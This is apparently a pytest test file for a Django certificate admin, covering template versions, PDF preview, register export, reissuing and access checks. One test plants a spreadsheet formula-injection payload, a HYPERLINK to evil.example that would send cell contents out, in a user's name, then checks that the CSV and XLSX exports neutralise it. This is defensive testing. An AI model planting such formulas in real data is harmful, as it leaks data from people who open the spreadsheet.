"""The admin: certificate templates with versions and a PDF preview, the register, one certificate's page."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.core.exceptions import ValidationError

from certificates import issuing
from certificates.models import Certificate, CertificateTemplate
from courses.roles import MANAGERS
from courses.testing import make_user
from tests.certificates.conftest import complete


@pytest.fixture
def certificate(completion):
    return issuing.issue_for_completion(completion)


def template_form(**overrides):
    data = {
        "name": "Branded",
        "language": "fa",
        "orientation": "portrait",
        "title_fa": "گواهی",
        "body_fa": "{name} دورهٔ {course} را در {completed} گذراند. کد: {code}",
        "title_en": "",
        "body_en": "",
    }
    return {**data, **overrides}


def test_a_trainer_creates_a_template_and_each_change_is_a_version(trainer_client):
    response = trainer_client.post("/admin/snippets/certificates/certificatetemplate/add/", template_form())
    assert response.status_code == 302
    template = CertificateTemplate.objects.get()
    trainer_client.post(
        f"/admin/snippets/certificates/certificatetemplate/edit/{template.pk}/", template_form(title_fa="گواهی نامه")
    )

    assert template.revisions.count() == 2
    assert [revision.as_object().title_fa for revision in template.revisions.order_by("pk")] == ["گواهی", "گواهی نامه"]


def test_unknown_placeholders_are_refused(trainer_client):
    response = trainer_client.post(
        "/admin/snippets/certificates/certificatetemplate/add/", template_form(body_fa="{nmae} {course}")
    )
    assert response.status_code == 200
    assert "{nmae}" in response.content.decode()
    assert not CertificateTemplate.objects.exists()
    with pytest.raises(ValidationError):
        CertificateTemplate(name="x", language="en", title_en="t", body_en="{oops").full_clean()


def test_the_preview_is_a_pdf_with_sample_data(trainer_client):
    response = trainer_client.post("/admin/snippets/certificates/certificatetemplate/preview/", template_form())
    assert response.json()["is_valid"]
    pdf = trainer_client.get("/admin/snippets/certificates/certificatetemplate/preview/")
    assert pdf["Content-Type"] == "application/pdf"
    assert pdf.content.startswith(b"%PDF")


def test_a_certificate_keeps_the_template_version_it_was_issued_with(completion, trainer_client):
    trainer_client.post("/admin/snippets/certificates/certificatetemplate/add/", template_form())
    certificate = issuing.issue_for_completion(completion)
    template = CertificateTemplate.objects.get()
    trainer_client.post(
        f"/admin/snippets/certificates/certificatetemplate/edit/{template.pk}/", template_form(title_fa="دیگر")
    )

    certificate.refresh_from_db()
    template.refresh_from_db()
    assert certificate.template_revision.as_object().title_fa == "گواهی"
    assert template.latest_revision_id != certificate.template_revision_id


def test_the_register_lists_filters_and_exports(trainer_client, certificate):
    listing = trainer_client.get("/admin/certificates/")
    assert listing.status_code == 200
    assert "سارا رضایی" in listing.content.decode()
    assert "/admin/certificates/zip/" in listing.content.decode()

    revoked_only = trainer_client.get("/admin/certificates/", {"status": "revoked"})
    assert "سارا رضایی" not in revoked_only.content.decode()

    export = trainer_client.get("/admin/certificates/", {"export": "csv"})
    rows = b"".join(export.streaming_content).decode()
    assert certificate.code in rows
    assert certificate.sha256 in rows
    assert "Valid" in rows


def test_the_register_exports_cannot_run_a_formula_from_a_name(trainer_client, english_learner, course):
    english_learner.first_name, english_learner.last_name = '=HYPERLINK("http://evil.example/?"&A1', "x)"
    english_learner.save()
    english_learner.staff_profile.persian_name = ""
    english_learner.staff_profile.save()
    certificate = issuing.issue_for_completion(complete(english_learner, course))
    issuing.revoke(certificate, by=get_user_model().objects.get(username="trainer"), reason="@SUM(1+1)")
    name = '=HYPERLINK("http://evil.example/?"&A1 x)'
    assert Certificate.objects.get(pk=certificate.pk).holder_name == name

    export = trainer_client.get("/admin/certificates/", {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    xlsx = trainer_client.get("/admin/certificates/", {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active

    assert rows[1][0] == f"'{name}"
    assert rows[1][-1] == "'@SUM(1+1)"
    assert sheet.cell(row=2, column=1).value == f"'{name}"
    assert sheet.cell(row=2, column=len(rows[0])).value == "'@SUM(1+1)"


def test_a_trainer_reissues_from_the_certificates_page(trainer_client, certificate):
    page = trainer_client.get(f"/admin/certificates/{certificate.pk}/")
    assert page.status_code == 200
    assert "Re-issue" in page.content.decode()

    response = trainer_client.post(f"/admin/certificates/{certificate.pk}/reissue/", {"reissue-reason": "Typo"})

    new = Certificate.objects.get(replaces=certificate)
    assert response["Location"] == f"/admin/certificates/{new.pk}/"
    assert new.is_issued  # the test settings run the queued task at once
    certificate.refresh_from_db()
    assert certificate.status_on() == Certificate.Status.SUPERSEDED
    assert new.events.get().actor == get_user_model().objects.get(username="trainer")


def test_learners_have_no_register(client, persian_learner, certificate):
    client.force_login(persian_learner)
    assert client.get("/admin/certificates/").status_code == 302


def test_a_learners_history_lists_their_certificates_for_those_who_see_the_register(
    client, trainer_client, certificate, persian_learner
):
    profile = persian_learner.staff_profile
    history = f"/admin/staff_profiles/inspect/{profile.pk}/"

    page = trainer_client.get(history).text
    assert f'href="/admin/certificates/{certificate.pk}/"' in page
    assert certificate.code in page

    # A manager of another team opens neither the history nor, through it, the certificates.
    outsider = make_user("outsider")
    outsider.groups.add(Group.objects.get(name=MANAGERS))
    client.force_login(outsider)
    assert client.get(history).status_code == 404

    # Their own manager sees them.
    persian_learner.staff_profile.manager = outsider
    persian_learner.staff_profile.save()
    assert certificate.code in client.get(history).text
